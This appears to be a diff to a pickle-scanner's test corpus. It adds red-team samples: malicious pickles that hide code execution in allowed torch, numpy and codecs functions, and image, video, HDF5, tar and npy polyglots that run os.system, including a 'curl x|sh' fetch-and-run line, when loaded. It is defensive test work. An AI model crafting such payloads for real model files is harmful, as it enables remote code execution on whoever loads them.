@@ -59,6 +59,7 @@ BENIGN_NAMES: tuple[str, ...] = (
     "plain_proto1.pkl",
     "plain_proto3.pkl",
     "pickled_tensors.pkl",
+    "pickled_tensors_proto2.pkl",
     "two_pickles.pkl",
     "checkpoints.tar",
     "weights.pt.gz",
@@ -96,6 +97,14 @@ TECHNIQUE_NAMES: tuple[str, ...] = (
     "proto_6_unsupported",
     "load_from_bytes_evil_zip",
     "load_from_bytes_evil_small",
+    # red team (issue 4 hardening): calls hidden in allowed functions, aliases, set mutation
+    "load_from_bytes_codecs_latin1",
+    "rebuild_from_type_calls_load_from_bytes",
+    "randomstate_ctor_calls_load_from_bytes",
+    "generator_ctor_calls_codecs",
+    "bit_generator_ctor_calls_result",
+    "copy_reg_alias_reconstructor_unchecked",
+    "additems_on_global",
 )
 CONTAINER_ATTACK_NAMES: tuple[str, ...] = (
     "torch_zip_evil.pt",
@@ -125,6 +134,16 @@ CONTAINER_ATTACK_NAMES: tuple[str, ...] = (
     "pickle_zip_polyglot.bin",
     "archive.7z",
     "unknown_binary.bin",
+    # red team: files of another format that are also pickles (pickle.load / joblib.load run them)
+    "bmp_polyglot.bmp",
+    "bmp_padded_polyglot.bmp",
+    "gif_polyglot.gif",
+    "mp4_polyglot.mp4",
+    "tflite_polyglot.tflite",
+    "hdf5_userblock_pickle.h5",
+    "tar_header_pickle.joblib",
+    "object_dtype_spelled_out.npy",
+    "object_dtype_in_struct.npy",
 )
 
 
@@ -371,7 +390,73 @@ def technique_pickles() -> dict[str, tuple[bytes, frozenset[Outcome]]]:
         "proto_6_unsupported": (b"\x80\x06" + reduce_global("os", "system"), HELD),
         "load_from_bytes_evil_zip": (_load_from_bytes_pickle(torch_zip_with(EVIL)), BAD),
         "load_from_bytes_evil_small": (_load_from_bytes_pickle(EVIL), BAD),
+        "load_from_bytes_codecs_latin1": (
+            pkl(
+                call(
+                    g("torch.storage", "_load_from_bytes"),
+                    call(g("_codecs", "encode"), u(EVIL.decode("latin-1")), u("latin1")),
+                ),
+                2,
+            ),
+            BAD,
+        ),
+        "rebuild_from_type_calls_load_from_bytes": (
+            pkl(
+                call(
+                    g("torch._tensor", "_rebuild_from_type_v2"),
+                    g("torch.storage", "_load_from_bytes"),
+                    g("torch", "Tensor"),
+                    b"(" + _binbytes(EVIL) + b"t",
+                    b"}",
+                ),
+                2,
+            ),
+            BAD,
+        ),
+        "randomstate_ctor_calls_load_from_bytes": (
+            pkl(
+                call(
+                    g("numpy.random._pickle", "__randomstate_ctor"),
+                    _binbytes(EVIL),
+                    g("torch.storage", "_load_from_bytes"),
+                ),
+                2,
+            ),
+            BAD,
+        ),
+        "generator_ctor_calls_codecs": (
+            pkl(
+                call(g("numpy.random._pickle", "__generator_ctor"), u("x"), g("_codecs", "encode"))
+            ),
+            BAD,
+        ),
+        "bit_generator_ctor_calls_result": (
+            pkl(
+                call(
+                    g("numpy.random._pickle", "__bit_generator_ctor"),
+                    call(g("collections", "OrderedDict")),
+                )
+            ),
+            BAD,
+        ),
+        "copy_reg_alias_reconstructor_unchecked": (
+            pkl(
+                call(
+                    g("copy_reg", "_reconstructor"),
+                    call(g("collections", "OrderedDict")),
+                    g("builtins", "object"),
+                    b"N",
+                ),
+                2,
+            ),
+            BAD,
+        ),
+        "additems_on_global": (pkl(g("collections", "OrderedDict") + b"(" + u("k") + b"\x90"), BAD),
     }
+
+
+def _binbytes(payload: bytes) -> bytes:
+    return b"B" + struct.pack("<I", len(payload)) + payload
 
 
 def _load_from_bytes_pickle(payload: bytes) -> bytes:
@@ -434,6 +519,9 @@ def benign_samples(root: Path) -> list[Sample]:
         "plain_proto3.pkl": lambda p: _write(p, pickle.dumps(_plain_values(), protocol=3)),
         "pickled_tensors.pkl": lambda p: _write(
             p, pickle.dumps({"w": torch.zeros(3000), "b": torch.ones(2)}, protocol=4)
+        ),
+        "pickled_tensors_proto2.pkl": lambda p: _write(
+            p, pickle.dumps({"w": torch.zeros(3000), "b": torch.ones(2)}, protocol=2)
         ),
         "two_pickles.pkl": lambda p: _write(p, pickle.dumps([1, 2]) + pickle.dumps({"a": 1})),
         "checkpoints.tar": lambda p: _tar(
@@ -594,8 +682,8 @@ def legacy_torch_with(main_pickle: bytes) -> bytes:
     )
 
 
-def _npy_object_with(payload: bytes) -> bytes:
-    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+def _npy_object_with(payload: bytes, descr: str = "'|O'") -> bytes:
+    header = b"{'descr': " + descr.encode() + b", 'fortran_order': False, 'shape': (1,), }"
     header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
     return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload
 
@@ -682,7 +770,51 @@ def container_attacks() -> dict[str, tuple[bytes, frozenset[Outcome]]]:
         "pickle_zip_polyglot.bin": (pickle.dumps([1]) + evil_zip, BAD),
         "archive.7z": (b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 30, HELD),
         "unknown_binary.bin": (bytes(range(1, 200)) * 3, HELD),
+        **polyglot_attacks(),
     }
+
+
+# A pickle body that first drops what the other format's magic pushed: POP, then the payload.
+_AFTER_MAGIC = b"0" + reduce_global("os", "system", "curl x|sh")
+
+
+def polyglot_attacks() -> dict[str, tuple[bytes, frozenset[Outcome]]]:
+    """Files whose magic says image/video/HDF5/tar/npy, which `pickle.load` runs all the same."""
+    return {
+        # BMP: "B" is BINBYTES, its length the "M" and the file-size field: set it to skip on
+        "bmp_polyglot.bmp": (b"BM\x00\x00\x00" + b"\x00" * 77 + _AFTER_MAGIC, BAD),
+        "bmp_padded_polyglot.bmp": (
+            b"BM\x00\x00\x00" + b"\x00" * 77 + b"0" + _binbytes(b"\0" * 200_000) + _AFTER_MAGIC,
+            BAD,
+        ),
+        # GIF: "G" is BINFLOAT, eating "IF89a" and three bytes of the screen descriptor
+        "gif_polyglot.gif": (b"GIF89a\x01\x00\x01" + _AFTER_MAGIC, BAD),
+        # ISO media / TFLite: the magic at offset 4 sits inside a SHORT_BINSTRING
+        "mp4_polyglot.mp4": (b"U\x0a\x00\x00ftypisom" + _AFTER_MAGIC, BAD),
+        "tflite_polyglot.tflite": (b"U\x06\x00\x00TFL3" + _AFTER_MAGIC, BAD),
+        "hdf5_userblock_pickle.h5": (_h5_with_userblock(reduce_global("os", "system")), BAD),
+        "tar_header_pickle.joblib": (_tar_that_is_a_pickle(), BAD),
+        "object_dtype_spelled_out.npy": (_npy_object_with(EVIL, descr="'object'"), BAD),
+        "object_dtype_in_struct.npy": (_npy_object_with(EVIL, descr="[('a', 'object_')]"), BAD),
+    }
+
+
+def _h5_with_userblock(payload: bytes) -> bytes:
+    """A real HDF5 file (h5py) whose 512-byte user block holds a pickle."""
+    import h5py
+
+    buf = io.BytesIO()
+    with h5py.File(buf, "w", userblock_size=512) as h5:
+        h5.create_dataset("w", data=np.zeros(4))
+    data = bytearray(buf.getvalue())
+    data[: len(payload)] = payload
+    return bytes(data)
+
+
+def _tar_that_is_a_pickle() -> bytes:
+    """A valid tar whose header reads as a protocol 0 STRING ending in the member's data."""
+    data = b"'\n" + _AFTER_MAGIC
+    return _tar_bytes([("S'a", data)])
 
 
 def _zip64(payload: bytes) -> bytes:
